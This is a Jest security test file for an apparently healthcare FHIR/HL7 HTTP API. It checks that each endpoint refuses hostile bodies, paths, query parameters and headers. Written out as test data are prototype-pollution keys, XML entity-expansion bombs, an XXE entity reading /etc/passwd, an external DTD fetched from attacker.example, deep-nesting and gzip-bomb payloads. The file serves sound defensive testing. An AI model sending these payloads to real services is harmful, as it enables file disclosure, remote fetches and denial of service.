/** Each HTTP function against bodies, addresses and headers that mean harm: refused soon, in its own words, and forgotten. */
import { beforeAll, describe, expect, test } from '@jest/globals';
import { gzipSync } from 'node:zlib';
import type { HttpAnswer } from '../../src/platform/http.js';
import { securityHeaders } from '../../src/platform/security-headers.js';
import {
  loadHttpFunctions,
  memoryContainer,
  requestTo,
  type HttpFunction,
  type RequestParts,
} from './http-functions.js';

/** Stands in every hostile input, and must not come back. */
const marker = 'Zorblatt';

const deep = (open: string, close: string, depth = 100_000) => open.repeat(depth) + close.repeat(depth);
const fhir = 'xmlns="http://hl7.org/fhir"';
const expansion = Array.from(
  { length: 10 },
  (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`,
).join('');

interface Attack {
  readonly type: 'json' | 'xml' | 'text';
  readonly body: string | Uint8Array;
  readonly headers?: Readonly<Record<string, string>>;
  /** What `/fhir` says of it, so that it is refused for the reason that it should be. */
  readonly says: string;
}

const attacks: Readonly<Record<string, Attack>> = {
  'a key given twice': {
    says: 'given before',
    type: 'json',
    body: `{"resourceType":"Patient","id":"${marker}","id":"b"}`,
  },
  'the key __proto__': {
    says: 'of this name is not taken',
    type: 'json',
    body: `{"resourceType":"Patient","__proto__":{"isPolluted":true}}`,
  },
  'the key __proto__ written with escapes': {
    says: 'of this name is not taken',
    type: 'json',
    body: `{"resourceType":"Patient","\\u005f_proto__":{"isPolluted":true}}`,
  },
  'the key constructor': {
    says: 'of this name is not taken',
    type: 'json',
    body: `{"resourceType":"Patient","constructor":{"prototype":{"isPolluted":"${marker}"}}}`,
  },
  'lists within lists': { says: 'nested at most', type: 'json', body: deep('[', ']') },
  'objects within objects': {
    says: 'nested at most',
    type: 'json',
    body: `${deep('{"a":', '').slice(0, -1)}:1${'}'.repeat(100_000)}`,
  },
  'more values than are read': { says: 'more than', type: 'json', body: `[${'0,'.repeat(300_000)}0]` },
  'numbers below a name as long as a book': {
    says: 'names that are too long',
    type: 'json',
    body: `{"${'k'.repeat(200_000)}":[${'1.0,'.repeat(100_000)}0]}`,
  },
  'what is no JSON': { says: 'not JSON', type: 'json', body: `{"resourceType":${marker}` },
  'what is not UTF-8': {
    says: 'not UTF-8',
    type: 'json',
    body: Buffer.from(`{"a":"${marker}\xff"}`, 'latin1'),
  },
  'an entity that reads a file': {
    says: 'document type',
    type: 'xml',
    body: `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Patient ${fhir}><id value="&x;"/></Patient>`,
  },
  'entities that multiply': {
    says: 'document type',
    type: 'xml',
    body: `<!DOCTYPE a [<!ENTITY a0 "${marker}">${expansion}]><Patient ${fhir}><id value="&a10;"/></Patient>`,
  },
  'a parameter entity of another host': {
    says: 'document type',
    type: 'xml',
    body: `<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.example/x.dtd">%x;]><Patient ${fhir}/>`,
  },
  'elements within elements': {
    says: 'nested at most',
    type: 'xml',
    body: `<Patient ${fhir}>${deep('<contact>', '</contact>')}</Patient>`,
  },
  'a body that is packed': {
    says: 'without Content-Encoding',
    type: 'json',
    body: gzipSync(`{"resourceType":"Patient","id":"${' '.repeat(1_000_000)}"}`),
    headers: { 'content-encoding': 'gzip' },
  },
  'a message that is packed': {
    says: 'without Content-Encoding',
    type: 'text',
    body: gzipSync('MSH|^~\\&|a|b'),
    headers: { 'content-encoding': 'gzip' },
  },
  'a body that is larger than is allowed': {
    says: 'HDE_PAYLOAD_TOO_LARGE',
    type: 'json',
    body: `"${'x'.repeat(11 * 1024 * 1024)}"`,
  },
};

const contentTypes = {
  json: 'application/json',
  xml: 'application/fhir+xml',
  text: 'application/hl7-v2+er7',
};

let functions: readonly HttpFunction[];
beforeAll(async () => {
  functions = await loadHttpFunctions();
  const { useContainer } = await import('../../src/platform/container.js');
  useContainer(await memoryContainer());
});

const logged: string[] = [];
const log = (line: string) => {
  logged.push(line);
};

async function ask(target: HttpFunction, method: string, parts: RequestParts): Promise<HttpAnswer> {
  const headers = { authorization: 'Bearer t', ...parts.headers };
  return target.handler(requestTo(target, method, { ...parts, headers }), {
    info: log,
    warn: log,
    error: log,
  });
}

/** What a client may be told: a refusal by its own code. */
function expectRefusal({ status = 200, body, headers }: HttpAnswer, name: string): void {
  expect({ name, status }).toEqual({ name, status: expect.any(Number) });
  expect(status >= 400 && status < 500 ? 'refused' : `${name}: ${status}`).toBe('refused');
  expect(headers).toMatchObject(securityHeaders);
  const text = typeof body === 'string' ? body : Buffer.from((body ?? '') as Uint8Array).toString();
  expect(text).not.toContain(marker);
  // The token service answers as RFC 6749 section 5.2 says.
  expect(text).toMatch(/HDE_|^MSH\||^\[?"|"error":"invalid_/);
}

const untouched = () => {
  expect(Object.getOwnPropertyNames(Object.prototype)).not.toContain('isPolluted');
  expect((() => undefined) as { isPolluted?: unknown }).not.toHaveProperty('isPolluted');
  expect(logged.filter((line) => line.includes(marker))).toEqual([]);
};

/** Those that take a body; messages are opaque to `/ingest`, and kept as they are. */
const takesBody = (method: string) => ['POST', 'PUT', 'PATCH'].includes(method);
const takesMessages = ({ route }: HttpFunction) => route === 'ingest/{feed}' || route === '$ingest';

describe.each(Object.entries(attacks))('%s', (name, { type, body, headers = {}, says }) => {
  test('is refused by every function that takes a body', async () => {
    let asked = 0;
    for (const target of functions) {
      for (const method of target.methods.filter(takesBody)) {
        const isOpaque = takesMessages(target) && headers['content-encoding'] === undefined;
        if (isOpaque && typeof body === 'string' && body.length < 10_000_000) continue;
        if (isOpaque && typeof body !== 'string') continue;
        const place = target.route.startsWith('fhir/') && method !== 'POST' ? { path: 'Patient/a' } : {};
        const contentType = takesMessages(target) ? contentTypes.text : contentTypes[type];
        const started = performance.now();
        const sent = { 'content-type': contentType, 'data-type': 'hl7v2', ...headers };
        const organisation = { 'organisation-code': 'RZZ', 'source-domain': 'tie' };
        const answer = await ask(target, method, { ...place, headers: { ...sent, ...organisation }, body });
        expectRefusal(answer, `${method} ${target.route} ${name}`);
        if (target.name === 'fhir' && method === 'POST') expect(answer.body).toContain(says);
        expect(performance.now() - started).toBeLessThan(5_000);
        asked += 1;
      }
    }
    expect(asked).toBeGreaterThan(10);
    untouched();
  });
});

describe('names that JavaScript has a meaning for', () => {
  const names = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

  test.each(names)('are no place: %s', async (path) => {
    for (const target of functions) {
      if (!target.route.includes('{') || target.name === 'health') continue;
      for (const method of target.methods.filter((each) => each !== 'HEAD')) {
        const content = { headers: { 'content-type': 'application/json' } };
        const body = takesBody(method) ? { ...content, body: '{}' } : {};
        const answer = await ask(target, method, { path, ...body });
        expectRefusal(answer, `${method} ${target.route} of ${path}`);
      }
    }
    untouched();
  });

  test.each(names)('are no parameter: %s', async (parameter) => {
    const search = functions.filter(({ methods }) => methods.includes('GET'));
    for (const target of search) {
      if (/health|openapi/.test(target.route)) continue;
      for (const query of [
        `?${parameter}=${marker}`,
        `?${parameter}:${parameter}=${marker}`,
        `?_sort=${parameter}`,
      ])
        expectRefusal(await ask(target, 'GET', { query }), `GET ${target.route}${query}`);
    }
    untouched();
  });

  test.each(names)('are no path of a patch: %s', async (key) => {
    const target = functions.find(({ name }) => name === 'fhir')!;
    const patient = `{"resourceType":"Patient","id":"a","identifier":[{"system":"https://rzz.example.nhs.uk/Id/local-patient-id","value":"${key}"}]}`;
    const created = await ask(target, 'PUT', {
      path: 'Patient/a',
      headers: { 'content-type': 'application/fhir+json' },
      body: patient,
    });
    expect([200, 201]).toContain(created.status);
    for (const pointer of [
      `/${key}`,
      `/${key}/isPolluted`,
      `/constructor/prototype/isPolluted`,
      `/name/${key}`,
    ]) {
      const answer = await ask(target, 'PATCH', {
        path: 'Patient/a',
        headers: { 'content-type': 'application/json-patch+json' },
        body: JSON.stringify([{ op: 'add', path: pointer, value: marker }]),
      });
      expectRefusal(answer, `PATCH ${pointer}`);
    }
    untouched();
  });
});

test('a header as long as a book changes nothing', async () => {
  const long = 'x'.repeat(100_000);
  for (const target of functions) {
    const method = target.methods[0] ?? 'GET';
    const headers = { traceparent: long, origin: long, 'x-forwarded-for': long, accept: long };
    const { status = 200 } = await ask(target, method, { headers });
    expect(`${method} ${target.route}: ${status}`).not.toMatch(/: 5\d\d$/);
  }
  expect(logged.filter((line) => line.length > 5_000)).toEqual([]);
});
